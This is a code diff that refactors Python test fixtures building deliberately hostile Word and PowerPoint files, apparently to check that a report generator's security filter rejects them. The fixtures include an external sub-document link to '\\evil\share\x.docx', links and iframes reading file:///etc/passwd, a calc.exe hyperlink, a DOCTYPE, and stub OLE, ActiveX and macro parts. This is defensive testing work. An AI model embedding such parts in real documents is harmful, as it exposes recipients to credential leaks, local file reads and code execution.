@@ -68,6 +68,11 @@ def _override(name: str, content_type: str) -> str:
     return f'<Override PartName="/{name}" ContentType="{content_type}"/>'
 
 
+def _read(source: Path, *names: str) -> list[bytes]:
+    with zipfile.ZipFile(source) as archive:
+        return [archive.read(name) for name in names]
+
+
 def _write(source: Path, dest: Path, parts: dict[str, bytes], overrides: list[str]) -> Path:
     with zipfile.ZipFile(source) as archive:
         existing = {info.filename: archive.read(info) for info in archive.infolist()}
@@ -78,6 +83,30 @@ def _write(source: Path, dest: Path, parts: dict[str, bytes], overrides: list[st
         for name, data in existing.items():
             archive.writestr(name, data)
     return dest
+
+
+def _active_parts(folder: str) -> dict[str, bytes]:
+    """An OLE object, an ActiveX control (its part and binary) and a macro project under `folder`."""
+    control = (
+        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
+        'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1" '
+        f'xmlns:r="{R}"/>'
+    )
+    return {
+        f"{folder}/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Package",
+        f"{folder}/activeX/activeX1.xml": control.encode(),
+        f"{folder}/activeX/_rels/activeX1.xml.rels": _rels(_rel("rId1", f"{MS}/activeXControlBinary", "activeX1.bin")),
+        f"{folder}/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0 control",
+        f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros",
+    }
+
+
+def _object_rels(up: str) -> tuple[str, str]:
+    """rId90: the OLE object, rId91: the ActiveX control of `_active_parts`, from a part `up` of them."""
+    return (
+        _rel("rId90", f"{R}/oleObject", f"{up}embeddings/oleObject1.bin"),
+        _rel("rId91", f"{R}/control", f"{up}activeX/activeX1.xml"),
+    )
 
 
 def _field_paragraphs() -> str:
@@ -104,11 +133,9 @@ def _field_paragraphs() -> str:
 
 def hostile_docx(source: Path, dest: Path) -> Path:
     """The Word reference at `source` with active content added, written to `dest`."""
-    with zipfile.ZipFile(source) as archive:
-        document = archive.read("word/document.xml")
-        rels = archive.read("word/_rels/document.xml.rels")
-        theme = archive.read("word/theme/theme1.xml")
-        custom = archive.read("customXml/item1.xml")
+    document, rels, theme, custom = _read(
+        source, "word/document.xml", "word/_rels/document.xml.rels", "word/theme/theme1.xml", "customXml/item1.xml"
+    )
     objects = (
         '<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office">'
         '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" r:id="rId90"/>'
@@ -131,8 +158,7 @@ def hostile_docx(source: Path, dest: Path) -> Path:
         "word/document.xml": document,
         "word/_rels/document.xml.rels": _add_rels(
             rels,
-            _rel("rId90", f"{R}/oleObject", "embeddings/oleObject1.bin"),
-            _rel("rId91", f"{R}/control", "activeX/activeX1.xml"),
+            *_object_rels(""),
             _rel("rId92", f"{MS}/vbaProject", "vbaProject.bin"),
             _rel("rId93", f"{R}/footnotes", "footnotes.xml"),
             _rel("rId94", f"{R}/glossaryDocument", "glossary/document.xml"),
@@ -141,13 +167,7 @@ def hostile_docx(source: Path, dest: Path) -> Path:
             _rel("rId97", f"{R}/subDocument", "\\\\evil\\share\\x.docx", external=True),
             _rel("rId98", f"{R}/aFChunk", "afchunk.htm"),
         ),
-        "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Package",
-        "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
-        b'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1" '
-        + f'xmlns:r="{R}"/>'.encode(),
-        "word/activeX/_rels/activeX1.xml.rels": _rels(_rel("rId1", f"{MS}/activeXControlBinary", "activeX1.bin")),
-        "word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0 control",
-        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros",
+        **_active_parts("word"),
         "word/afchunk.htm": b"<html><body><iframe src='file:///etc/passwd'></iframe></body></html>",
         "word/footnotes.xml": footnotes.encode(),
         "word/glossary/document.xml": glossary.encode(),
@@ -176,12 +196,14 @@ def hostile_pptx(source: Path, dest: Path, controls: bool = True) -> Path:
     Package object and (with `controls`) an ActiveX control and a macro project, among the rest.
     Without them it passes the pack's safety check (reportgen.packs.security), which refuses
     those by name."""
-    with zipfile.ZipFile(source) as archive:
-        master = archive.read("ppt/slideMasters/slideMaster1.xml")
-        master_rels = archive.read("ppt/slideMasters/_rels/slideMaster1.xml.rels")
-        presentation_rels = archive.read("ppt/_rels/presentation.xml.rels")
-        layout = archive.read("ppt/slideLayouts/slideLayout2.xml")
-        theme = archive.read("ppt/theme/theme1.xml")
+    master, master_rels, presentation_rels, layout, theme = _read(
+        source,
+        "ppt/slideMasters/slideMaster1.xml",
+        "ppt/slideMasters/_rels/slideMaster1.xml.rels",
+        "ppt/_rels/presentation.xml.rels",
+        "ppt/slideLayouts/slideLayout2.xml",
+        "ppt/theme/theme1.xml",
+    )
     ole = (
         '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="90" name="Object 1"/><p:cNvGraphicFramePr/><p:nvPr/>'
         '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm>'
@@ -201,8 +223,7 @@ def hostile_pptx(source: Path, dest: Path, controls: bool = True) -> Path:
         "ppt/slideMasters/slideMaster1.xml": master,
         "ppt/slideMasters/_rels/slideMaster1.xml.rels": _add_rels(
             master_rels,
-            _rel("rId90", f"{R}/oleObject", "../embeddings/oleObject1.bin"),
-            _rel("rId91", f"{R}/control", "../activeX/activeX1.xml"),
+            *_object_rels("../"),
             _rel("rId92", f"{R}/hyperlink", "file:///c:/windows/system32/calc.exe", external=True),
             _rel("rId93", f"{R}/image", "file:///etc/passwd", external=True),
         ),
@@ -211,13 +232,7 @@ def hostile_pptx(source: Path, dest: Path, controls: bool = True) -> Path:
             _rel("rId90", f"{MS}/vbaProject", "vbaProject.bin"),
             _rel("rId91", f"{R}/customXml", "../customXml/item1.xml"),
         ),
-        "ppt/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Package",
-        "ppt/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
-        b'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1" '
-        + f'xmlns:r="{R}"/>'.encode(),
-        "ppt/activeX/_rels/activeX1.xml.rels": _rels(_rel("rId1", f"{MS}/activeXControlBinary", "activeX1.bin")),
-        "ppt/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0 control",
-        "ppt/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros",
+        **_active_parts("ppt"),
         "customXml/item1.xml": (
             b'<?xml version="1.0"?>'
             + _DOCTYPE
